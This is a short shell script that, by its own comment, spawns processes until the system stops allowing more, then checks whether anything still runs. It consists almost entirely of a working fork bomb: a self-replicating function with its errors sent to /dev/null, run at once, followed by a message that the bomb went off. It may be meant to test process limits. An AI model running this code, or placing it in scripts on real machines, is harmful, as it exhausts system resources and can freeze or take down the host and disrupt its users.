# Makes processes until it is not allowed to, then sees whether it can still do something.
bomb() { bomb 2>/dev/null | bomb 2>/dev/null & }
bomb 2>/dev/null
for i in 1 2 3; do sleep 1; done
echo "the bomb went off"
